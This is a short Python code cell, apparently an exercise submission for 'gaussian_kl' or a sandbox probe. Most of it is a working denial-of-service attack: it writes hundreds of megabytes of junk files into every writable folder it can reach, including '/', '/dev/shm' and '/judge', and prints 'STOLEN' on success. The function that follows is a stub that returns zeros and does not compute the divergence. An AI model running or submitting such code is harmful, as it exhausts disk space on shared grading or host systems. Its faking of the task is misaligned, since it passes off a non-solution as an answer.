# tries: fill every folder that can be written to with large files
# only here: its size is that of this project's limits

# %%
# exercise: gaussian_kl
import os

written = 0
for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/judge", "/home", os.path.expanduser("~"), ".", os.environ.get("FIXMELAB_CACHE", ".")):
    try:
        with open(f"{folder}/left-by-attack", "wb") as file:
            for _ in range(500):
                written += file.write(bytes(2**20))
                file.flush()
    except OSError:
        pass
print("STOLEN" if written > 100 * 2**20 else "reached", written >> 20)
print("reached")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))
